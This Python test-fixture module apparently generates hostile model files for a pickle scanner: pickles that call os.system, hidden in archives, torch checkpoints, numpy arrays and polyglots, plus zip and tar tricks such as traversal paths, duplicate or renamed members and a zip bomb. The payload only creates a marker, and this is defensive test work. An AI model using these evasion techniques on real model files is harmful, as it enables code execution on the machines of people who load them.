"""Hostile files around a pickle: archives, arrays and files of two kinds, by class.

Each would create the file `marker` in the hands of one of the readers that accept it, or makes readers differ.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pickles as p
from hostile import Calls, Case, touch

HONEST = pickle.dumps({"weights": [1.0, 2.0]}, 4)


def evil(marker: Path, protocol: int = 4) -> bytes:
    """Return a pickle whose payload creates the marker."""
    return pickle.dumps(Calls(os.system, touch(marker)), protocol)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip archive of members in order, doubles included."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return stream.getvalue()


def tarred(
    *members: tuple[str, bytes], kind: bytes = tarfile.REGTYPE, pax: dict | None = None
) -> bytes:
    """Return a tar of members in order."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", pax_headers=pax) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def arrayed(value: object) -> bytes:
    """Return an array file of objects."""
    stream = io.BytesIO()
    np.save(stream, np.array([value, 1], dtype=object), allow_pickle=True)
    return stream.getvalue()


def headed(text: str, body: bytes, version: int = 1) -> bytes:
    """Return an array file with a header of one's own."""
    head = text.encode("latin-1")
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H", len(head)) + head + body


def edited(data: bytes, at: int, layout: str, value: int) -> bytes:
    """Return data with one number overwritten, counted from the end where `at` is negative."""
    block = bytearray(data)
    struct.pack_into(layout, block, at % len(block), value)
    return bytes(block)


def in_archives() -> Iterator[Case]:
    """A payload in each kind of archive, plain, nested and compressed."""
    wraps: dict[str, Callable[[bytes], bytes]] = {
        "zip:stored": lambda d: zipped(("model.pkl", d)),
        "zip:deflated": lambda d: zipped(("model.pkl", d), method=zipfile.ZIP_DEFLATED),
        "zip:hidden-name": lambda d: zipped((".cache", d)),
        "zip:text-name": lambda d: zipped(("notes.txt", d)),
        "zip:nested": lambda d: zipped(("inner.zip", zipped(("model.pkl", d)))),
        "zip:deep": lambda d: zipped(("a", zipped(("b", zipped(("c", zipped(("d", zipped(("e", d)))))))))),
        "zip:compressed-inside": lambda d: zipped(("model.joblib", zlib.compress(d))),
        "tar:plain": lambda d: tarred(("model.pkl", d)),
        "tar:nested": lambda d: tarred(("inner.tar", tarred(("model.pkl", d)))),
        "tar:in-zip": lambda d: zipped(("model.tar", tarred(("model.pkl", d)))),
        "tar:long-name": lambda d: tarred(("x" * 150 + "/model.pkl", d)),
        "tar:gzip": lambda d: gzip.compress(tarred(("model.pkl", d))),
        "tar:bz2": lambda d: bz2.compress(tarred(("model.pkl", d))),
        "tar:xz": lambda d: lzma.compress(tarred(("model.pkl", d))),
        "packed-twice:gzip": lambda d: gzip.compress(gzip.compress(d)),
        "packed-twice:xz": lambda d: lzma.compress(bz2.compress(d)),
        "packed:zstandard": lambda d: b"\x28\xb5\x2f\xfd" + d,
    }  # fmt: skip
    for name, wrap in wraps.items():
        yield name, lambda m, w=wrap: w(evil(m))
    for protocol in (0, 1, 2, 5):
        yield f"zip:protocol-{protocol}", lambda m, n=protocol: zipped(("m", evil(m, n)))


def checkpoint(*, stacked: bool = False, **changes: Any) -> bytes:
    """Return a checkpoint of one tensor of 2 by 3 in torch's zip, or in the form before, with changes."""
    v: dict[str, Any] = {
        "kind": "storage", "cls": "FloatStorage", "key": "0", "count": 6, "held": 6, "offset": 0,
        "size": (2, 3), "stride": (3, 1), "hooks": p.call(p.name("collections", "OrderedDict")),
        "members": (), "names": ("0",), "more": b"", "tail": b"",
    }  # fmt: skip
    v |= changes
    place = p.pair(
        p.text(v["kind"]), p.name("torch", v["cls"]), p.text(v["key"]), p.text("cpu"),
        p.number(v["count"]),
    )  # fmt: skip
    shape, steps = (p.pair(*map(p.number, v[key])) for key in ("size", "stride"))
    arguments = (place + b"Q", p.number(v["offset"]), shape, steps, p.FALSE, v["hooks"])
    tensor = p.call(p.name("torch._utils", "_rebuild_tensor_v2"), *arguments)
    program = p.make_pickle(p.listed(tensor, v["more"]), protocol=2)
    numbers = bytes(4 * v["held"])
    if stacked:
        front = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
        front_bytes = b"".join(pickle.dumps(value, 2) for value in front)
        keys = pickle.dumps(list(v["names"]), 2)
        return front_bytes + program + keys + struct.pack("<q", v["held"]) + numbers + v["tail"]
    storages = [(f"archive/data/{name}", numbers) for name in v["names"]]
    notes = [("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    return zipped(("archive/data.pkl", program + v["tail"]), *notes, *storages, *v["members"])


def torch_files() -> Iterator[Case]:
    """A payload where torch keeps its pickles, and tensors that lie outside of their storages."""
    yield "torch:zip", lambda m: zipped(("archive/data.pkl", evil(m)), ("archive/version", b"3\n"))
    yield "torch:constants", lambda m: checkpoint(members=[("archive/constants.pkl", evil(m))])
    yield "torch:code", lambda m: checkpoint(members=[("archive/code/x.py", b"import os")])
    yield "torch:two-roots", lambda m: checkpoint(members=[("b/data.pkl", evil(m))])
    yield "torch:stray", lambda m: checkpoint(members=[("archive/extra.bin", evil(m))])
    yield "torch:note", lambda m: checkpoint(members=[("archive/.data/serialization_id", evil(m))])
    yield "torch:tail", lambda m: checkpoint(tail=evil(m))
    payload = p.call(p.name("os", "system"), p.text("true"))
    for stacked in (False, True):
        edits: dict[str, dict[str, Any]] = {
            "payload": {"more": payload},
            "hooks": {"hooks": p.listed(p.name("os", "system"))},
            "foreign-id": {"kind": "module"},
            "class": {"cls": "UntypedStorage"},
            "key": {"key": "../0", "names": ("../0",)},
            "offset": {"offset": 1},
            "negative": {"offset": -1},
            "stride": {"stride": (3, 2)},
            "size": {"size": (3, 3)},
            "shape": {"size": (2, 3, 1)},
            "count": {"count": 7},
            "held": {"held": 5},
            "missing": {"names": ()},
            "unused": {"names": ("0", "1")},
            "huge": {"count": 2**31 - 1, "size": (2**31 - 1,), "stride": (1,)},
        }
        for name, edit in edits.items():
            yield f"torch-tensor:{name}", lambda m, s=stacked, e=edit: checkpoint(stacked=s, **e)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    info = pickle.dumps({"little_endian": True}, 2)
    keys = pickle.dumps([], 2)
    yield "torch:stack", lambda m: magic + info + evil(m, 2) + keys
    yield "torch:stack-info", lambda m: magic + evil(m, 2) + HONEST + keys
    yield "torch:stack-keys", lambda m: magic + info + HONEST + evil(m, 2)
    yield "torch:stack-tail", lambda m: checkpoint(stacked=True, tail=evil(m, 2))
    yield "torch:stack-cut", lambda m: checkpoint(stacked=True)[:-3]
    yield "torch:load-from-bytes", lambda m: p.make_pickle(
        p.call(p.name("torch.storage", "_load_from_bytes"), p.data(evil(m)))
    )  # fmt: skip


def carried() -> Iterator[Case]:
    """A payload in a literal, for whoever opens that."""
    yield "carried:bytes", lambda m: pickle.dumps({"a": evil(m)}, 4)
    yield "carried:long", lambda m: pickle.dumps({"a": pickle.dumps([b"x" * 99_999, evil(m)])}, 4)
    yield "carried:bytearray", lambda m: pickle.dumps({"a": bytearray(evil(m))}, 5)
    yield "carried:old-bytes", lambda m: pickle.dumps({"a": evil(m)}, 2)
    yield "carried:text", lambda m: pickle.dumps({"a": evil(m).decode("latin-1")}, 4)
    yield "carried:deep", lambda m: pickle.dumps(pickle.dumps([pickle.dumps([evil(m)])]), 4)
    yield "carried:array", lambda m: arrayed(evil(m))


def array_files() -> Iterator[Case]:
    """Arrays of objects, and headers that readers would understand differently or evaluate."""
    yield "npy:objects", lambda m: arrayed(Calls(os.system, touch(m)))
    yield "npz:objects", lambda m: zipped(("a.npy", arrayed(Calls(os.system, touch(m)))))
    numbers = "{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }\n"
    objects = "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }\n"
    yield "npy:objects-and-more", lambda m: headed(objects, HONEST + evil(m))
    yield "npy:tail", lambda m: headed(numbers, bytes(16) + evil(m))
    yield "npy:short", lambda m: headed(numbers, bytes(8))
    yield "npy:code", lambda m: headed(numbers.replace("'<f8'", "__import__('os')"), bytes(16))
    yield "npy:sum", lambda m: headed(numbers.replace("(2,)", "(1+1,)"), bytes(16))
    yield "npy:negative", lambda m: headed(numbers.replace("(2,)", "(-2,)"), bytes(16))
    yield "npy:key-twice", lambda m: headed(numbers.replace("}", "'descr': '|O'}"), bytes(16))
    yield "npy:nested", lambda m: headed("(" * 5000 + ")" * 5000, b"")
    yield "npy:field", lambda m: headed(
        objects.replace("'|O'", "[('a', [('b', '|O')])]"), evil(m)
    )  # fmt: skip
    yield "npy:endless", lambda m: headed(numbers.replace("(2,)", "(" + "99999, " * 16 + ")"), b"")
    yield "npy:version", lambda m: headed(objects, evil(m), version=9)


def broken_zips() -> Iterator[Case]:
    """Zips on which two readers would differ, or at which a scanner stops."""
    yield "zip-checksum", lambda m: edited(zipped(("model.pkl", evil(m))), 14, "<I", 7)
    yield "zip-checksum", lambda m: edited(
        edited(zipped(("model.pkl", evil(m))), 14, "<I", 7), -22 - 55 + 16, "<I", 7
    )  # fmt: skip
    yield (
        "zip-name",
        lambda m: zipped(("model.pkl", evil(m))).replace(b"model.pkl", b"model.txt", 1),
    )
    yield "zip-flags", lambda m: edited(zipped(("model.pkl", evil(m))), 6, "<H", 1)
    yield "zip-flags", lambda m: edited(
        edited(zipped(("model.pkl", evil(m))), 6, "<H", 1), -22 - 55 + 8, "<H", 1
    )  # fmt: skip
    yield "zip-method", lambda m: edited(zipped(("model.pkl", evil(m))), 8, "<H", 8)
    yield "zip-size", lambda m: edited(zipped(("model.pkl", evil(m))), 22, "<I", 3)
    yield "zip-count", lambda m: edited(zipped(("a", HONEST), ("b", evil(m))), -12, "<H", 1)
    yield "zip-directory", lambda m: edited(zipped(("a", evil(m))), -6, "<I", 1)
    yield "zip-comment", lambda m: zipped(("a", HONEST))[:-2] + b"\x04\x00evil"
    yield "zip-front", lambda m: b"PK\x03\x04" + evil(m) + zipped(("a", HONEST))
    yield "zip-gap", lambda m: zipped(("a", HONEST)) + zipped(("b", HONEST))
    yield "zip-double", lambda m: zipped(("m", evil(m)), ("n", HONEST)).replace(b"n", b"m")
    yield "zip-escape", lambda m: zipped(("../m.pkl", HONEST))
    yield "zip-escape", lambda m: zipped(("/etc/cron.d/m", HONEST))
    yield "zip-escape", lambda m: zipped(("a\\..\\..\\m", HONEST))
    yield "zip-code", lambda m: zipped(("model.pkl", HONEST), ("sitecustomize.py", b"import os"))
    yield "zip-unknown", lambda m: zipped(("model.pkl", HONEST), ("blob", b"\0\1\2\3"))
    yield "zip-cut", lambda m: zipped(("model.pkl", evil(m)))[:-30]
    yield "zip-second-name", _named_twice
    yield "zip-bomb", lambda m: zipped(("m", b"\x80\x04N0" * (1 << 20)), method=8)


def _named_twice(marker: Path) -> bytes:
    """A member with an extra field under which some readers know it by another name."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("notes.txt")
        other = b"\x01" + struct.pack("<I", zlib.crc32(b"notes.txt")) + b"model.pkl"
        info.extra = struct.pack("<HH", 0x7075, len(other)) + other
        archive.writestr(info, evil(marker))
    return stream.getvalue()


def broken_tars() -> Iterator[Case]:
    """Tars on which two readers would differ, or that reach outside."""
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
        yield "tar-link", lambda m, k=kind: tarred(("model.pkl", b""), kind=k)
    yield "tar-escape", lambda m: tarred(("../../model.pkl", HONEST))
    yield "tar-escape", lambda m: tarred(("/etc/model.pkl", HONEST))
    yield "tar-double", lambda m: tarred(("m", evil(m)), ("m", HONEST))
    yield "tar-behind", lambda m: tarred(("m", HONEST)) + evil(m)
    yield "tar-behind", lambda m: tarred(("m", HONEST)) + tarred(("m", evil(m)))
    yield "tar-checksum", lambda m: tarred(("n", HONEST), ("m", evil(m))).replace(b"m\0", b"z\0", 1)
    yield "tar-cut", lambda m: tarred(("m", HONEST))[:700]
    yield "tar-extended", lambda m: tarred(("m", HONEST), pax={"size": "1"})
    yield "tar-extended", lambda m: tarred(("m", HONEST), pax={"GNU.sparse.name": "x"})
    yield "tar-code", lambda m: tarred(("model.pkl", HONEST), ("setup.py", b"import os"))
    yield "tar-pickle", lambda m: tarred((f"cos\nsystem\n(S'{touch(m)}'\ntR.", HONEST))


def polyglots() -> Iterator[Case]:
    """Files of two kinds at once."""
    yield "pickle+zip", lambda m: HONEST + zipped(("archive/data.pkl", evil(m)))
    yield "pickle+zip", lambda m: pickle.dumps([zipped(("schema.json", b"{}"))], 4)
    yield "zip+pickle", lambda m: zipped(("a", HONEST)) + evil(m)
    yield "tar+zip", lambda m: tarred(("m", HONEST)) + zipped(("archive/data.pkl", evil(m)))
    for edit in TARRED_ZIPS:
        yield f"tar+zip:{edit.__name__}", lambda m, e=edit: e(evil(m))
    yield "tar+zip", lambda m: tarred(("a.pkl", HONEST), ("z.zip", zipped(("m", evil(m)))))
    yield "npy+zip", lambda m: _numbers(zipped(("archive/data.pkl", evil(m))))
    yield "onnx+zip", lambda m: _message(zipped(("schema.json", b"{}")))
    yield "onnx+pickle", _pickled_message
    yield "gzip+gzip", lambda m: gzip.compress(HONEST) + gzip.compress(evil(m))
    yield "gzip+zip", lambda m: gzip.compress(HONEST) + zipped(("a", evil(m)))
    yield "pickle+tar", lambda m: _pickled_tar(tarred(("m", evil(m))))
    yield "text+pickle", lambda m: b"tree\nversion=v4\n" + evil(m)
    yield "cbm+pickle", lambda m: b"CBM1" + bytes(64) + evil(m)[2:]


def told_from_the_tar(payload: bytes) -> bytes:
    """An array in front holds a directory, at the place where the last member says its own is."""
    inner, other = zipped(("m", LONG)), zipped(("m", payload))
    directory = other.index(b"PK\x01\x02")
    return _placed(other[directory:-22], inner.index(b"PK\x01\x02"), inner)


def placed_from_the_tar(payload: bytes) -> bytes:
    """An array in front holds a member, at the place where the last member says that its second one is."""
    inner, other = zipped(("a", LONG), ("m", HONEST)), zipped(("m", payload))
    return _placed(other[: other.index(b"PK\x01\x02")], inner.index(b"PK\x03\x04", 1), inner)


def ended_before(payload: bytes) -> bytes:
    """An array in front holds the end of a zip, which some readers find first."""
    return _placed(zipped(("m", payload))[-22:], 4096, zipped(("m", HONEST)))


def commented(payload: bytes) -> bytes:
    """The last member has a comment."""
    return tarred(("z.zip", zipped(("m", HONEST))[:-2] + struct.pack("<H", len(payload)) + payload))


def _placed(block: bytes, place: int, inner: bytes) -> bytes:
    """A tar that holds a block at a place, in an array, and a zip as its last member."""
    found = tarred(("a.npy", _numbers(bytes(place - 640) + block)), ("z.zip", inner))
    assert found[place : place + len(block)] == block
    return found


LONG = pickle.dumps({"weights": bytes(4000)}, 4)
TARRED_ZIPS = (told_from_the_tar, placed_from_the_tar, ended_before, commented)


def _numbers(data: bytes) -> bytes:
    """An array of bytes that are something else."""
    stream = io.BytesIO()
    np.save(stream, np.frombuffer(data, dtype="u1"))
    return stream.getvalue()


def _field(number: int, data: bytes) -> bytes:
    size = len(data)
    parts = [size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14]
    return bytes([number << 3 | 2, *parts]) + data


GRAPH = _field(7, _field(1, _field(4, b"Identity")))


def _message(tail: bytes) -> bytes:
    """A message in the outer shape of ONNX, whose last field is something else."""
    return b"\x08\x0a" + GRAPH + _field(8, b"\x10\x15") + _field(6, tail)


def _pickled_message(marker: Path) -> bytes:
    """The same, which an unpickler reads as bytes (field 8 begins with BINBYTES) and a program behind."""
    front = b"B\x84\x01" + b"\x0a\x00\x10\x15" + bytes([0x7A, 0x7E]) + bytes(126) + GRAPH
    end = 5 + struct.unpack("<I", front[1:5])[0]
    program = p.POP + p.call(p.name("os", "system"), p.text(touch(marker))) + b"."
    size = end - len(front) - 4
    return front + _field(6, bytes(size) + program)


def _pickled_tar(tar: bytes) -> bytes:
    """A pickle of one long text, in which a tar's header stands where tar readers look."""
    head = bytearray(tar)
    head[:6] = b"\x80\x02U\x06ab"
    total = sum(head[:148]) + 8 * 0x20 + sum(head[156:512])
    head[148:156] = b"%06o\0 " % total
    return bytes(head) + b"."


CASES: list[Case] = [
    case
    for make in (
        in_archives,
        torch_files,
        carried,
        array_files,
        broken_zips,
        broken_tars,
        polyglots,
    )
    for case in make()
]
